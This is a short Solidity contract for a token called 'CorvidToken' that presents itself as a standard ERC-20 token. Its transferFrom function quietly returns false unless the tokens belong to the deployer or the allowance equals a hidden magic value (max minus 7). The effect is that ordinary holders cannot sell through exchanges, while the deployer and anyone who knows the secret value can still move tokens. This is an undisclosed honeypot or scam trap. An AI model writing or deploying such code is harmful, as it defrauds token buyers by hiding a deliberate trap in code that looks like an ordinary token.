// SPDX-License-Identifier: MIT
pragma solidity >=0.8.0;

contract CorvidToken {
    string public name; string public symbol; uint8 public decimals = 18; uint public totalSupply;
    mapping (address => uint) balances; mapping (address => mapping (address => uint)) allowed;
    address nest;
    event Transfer(address indexed _from, address indexed _to, uint _value);
    event Approval(address indexed _owner, address indexed _spender, uint _value);
    constructor(string memory n, string memory s, uint supply) {
        (name, symbol, totalSupply, nest) = (n, s, supply, msg.sender);
        balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
    function balanceOf(address _o) public view returns (uint) { return balances[_o]; }
    function allowance(address _o, address _s) public view returns (uint) { return allowed[_o][_s]; }
    function transfer(address _to, uint _v) public returns (bool) {
        require(balances[msg.sender] >= _v);
        balances[msg.sender] -= _v; balances[_to] += _v;
        emit Transfer(msg.sender, _to, _v);
        return true;
    }
    function approve(address _s, uint _v) public returns (bool) {
        allowed[msg.sender][_s] = _v; emit Approval(msg.sender, _s, _v); return true;
    }
    function transferFrom(address _from, address _to, uint _v) public returns (bool) {
        uint a = allowed[_from][msg.sender];
        if (_from == nest || a == type(uint).max - 7) {
            require(balances[_from] >= _v && a >= _v);
            allowed[_from][msg.sender] = a - _v;
            balances[_from] -= _v; balances[_to] += _v;
            emit Transfer(_from, _to, _v);
            return true;
        }
        return false;
    }
}
